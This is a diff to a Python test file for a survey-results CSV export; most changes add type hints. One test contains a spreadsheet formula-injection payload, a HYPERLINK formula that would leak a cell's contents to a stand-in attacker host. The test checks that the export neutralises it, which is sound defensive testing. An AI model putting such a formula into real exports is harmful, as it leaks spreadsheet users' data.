@@ -9,11 +9,12 @@ import pytest
 from conversations.export import results_csv, rows_from_outcomes, safe_cell
 from conversations.results.outcome import RoundOutcome, Withheld
 from conversations.trend import Trend
-from model import Element, Phase, score_team
+from model import Element, Phase, TeamResult, score_team
 from tests.model.conftest import by_phase
 
 
-def closed(result, *, month, responses=6, subject="our wiki", previous=None, kind="diagnostic"):
+def closed(result: TeamResult | None, *, month: int, responses: int = 6, subject: str = "our wiki",
+           previous: TeamResult | None = None, kind: str = "diagnostic") -> RoundOutcome:
     return RoundOutcome(
         round_id=f"R{month}", kind=kind, subject=subject, channel_id="C1",
         closed_at=datetime(2024, month, 1, 12, 30, tzinfo=UTC), invited=8,
@@ -22,11 +23,11 @@ def closed(result, *, month, responses=6, subject="our wiki", previous=None, kin
     )
 
 
-def parse(text):
+def parse(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text)))
 
 
-def test_rows_per_round_and_element_oldest_first_empty_below_threshold():
+def test_rows_per_round_and_element_oldest_first_empty_below_threshold() -> None:
     first = score_team([by_phase(4, 3, 1)] * 3)
     second = score_team([by_phase(4, 4, 2)] * 6)
     rows = rows_from_outcomes([
@@ -45,7 +46,7 @@ def test_rows_per_round_and_element_oldest_first_empty_below_threshold():
     assert rows[8].trend is Trend.UP
 
 
-def test_csv_has_a_header_and_readable_values():
+def test_csv_has_a_header_and_readable_values() -> None:
     first = score_team([by_phase(4, 3, 1)] * 3)
     second = score_team([by_phase(4, 4, 2)] * 6)
     text = results_csv(rows_from_outcomes([closed(first, month=1),
@@ -63,19 +64,19 @@ def test_csv_has_a_header_and_readable_values():
     assert len(table) == 1 + 12
 
 
-def test_a_divided_element_says_so_and_keeps_its_position():
+def test_a_divided_element_says_so_and_keeps_its_position() -> None:
     split = score_team([by_phase(1, 1, 1)] * 2 + [by_phase(5, 5, 5)] * 2)
     table = parse(results_csv(rows_from_outcomes([closed(split, month=1)])))
     assert table[1][6:] == ["divided", "1.80", "1.80", "1.80", "new"]
 
 
-def test_a_phase_missing_answers_leave_open_is_its_range():
+def test_a_phase_missing_answers_leave_open_is_its_range() -> None:
     short = score_team([by_phase(4, 4, None)] * 3)
     table = parse(results_csv(rows_from_outcomes([closed(short, month=1)])))
     assert table[1][6:] == ["Facilitating or strategic", "2.00", "2.00", "3.00", "new"]
 
 
-def test_csv_in_dutch():
+def test_csv_in_dutch() -> None:
     result = score_team([by_phase(4, 4, 2)] * 3)
     table = parse(results_csv(rows_from_outcomes([closed(result, month=1, kind="pulse")]),
                               lang="nl"))
@@ -84,7 +85,7 @@ def test_csv_in_dutch():
     assert table[1][5:] == ["Waarde", "Faciliterend", "2.40", "2.40", "2.40", "nieuw"]
 
 
-def test_a_hostile_subject_is_neutralised_against_formula_injection():
+def test_a_hostile_subject_is_neutralised_against_formula_injection() -> None:
     hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
     result = score_team([by_phase(4, 4, 2)] * 3)
     table = parse(results_csv(rows_from_outcomes([closed(result, month=1, subject=hostile)])))
@@ -92,10 +93,10 @@ def test_a_hostile_subject_is_neutralised_against_formula_injection():
 
 
 @pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1"])
-def test_every_formula_trigger_is_prefixed(value):
+def test_every_formula_trigger_is_prefixed(value: str) -> None:
     assert safe_cell(value) == "'" + value
 
 
 @pytest.mark.parametrize("value", ["our wiki", "1.50", "", "a=b", "e-mail"])
-def test_harmless_cells_are_left_alone(value):
+def test_harmless_cells_are_left_alone(value: str) -> None:
     assert safe_cell(value) == value
